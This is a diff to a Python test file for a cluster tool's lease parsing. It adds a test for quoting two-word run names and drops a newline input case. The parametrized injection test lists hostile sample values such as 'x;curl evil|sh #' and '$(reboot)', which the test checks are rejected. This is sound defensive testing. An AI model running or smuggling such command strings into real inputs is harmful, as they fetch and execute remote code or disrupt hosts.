@@ -215,7 +215,7 @@ def test_a_pid_that_is_none_names_nobody(pid: object) -> None:
     assert from_record({"pid": pid}).pid == 0
 
 
-@pytest.mark.parametrize("run", ["x;curl evil|sh #", "$(reboot)", "-f", "a\nb", "", "a" * 81, ["run"]])
+@pytest.mark.parametrize("run", ["x;curl evil|sh #", "$(reboot)", "-f", "", "a" * 81, ["run"]])
 def test_a_node_names_no_run_that_a_shell_would_run(run: object) -> None:
     lease = from_record({**OURS.as_record(), "run": run})
     assert (lease.run, lease.holder) == ("", "a lease that cannot be read")
@@ -223,6 +223,13 @@ def test_a_node_names_no_run_that_a_shell_would_run(run: object) -> None:
     assert "curl" not in str(vars(told))
     assert told.hint == "Check that no run changes the host, then remove /root/.clusterctl/lease.json there."
     assert release_command("a b;c") == "clusterctl leases release 'a b;c'"
+
+
+def test_the_name_of_a_run_of_two_words_is_read(tmp_path: Path) -> None:
+    (tmp_path / "hosts.yml").write_text("all: {}\n")
+    run = RunStore(ClusterDirectory(tmp_path)).create("registry upgrade", [])
+    assert from_record({**OURS.as_record(), "run": run.id}).run == run.id
+    assert release_command(run.id) == f"clusterctl leases release '{run.id}'"
 
 
 def test_validation_sees_whose_apply_it_is(node: Path, monkeypatch: pytest.MonkeyPatch) -> None:
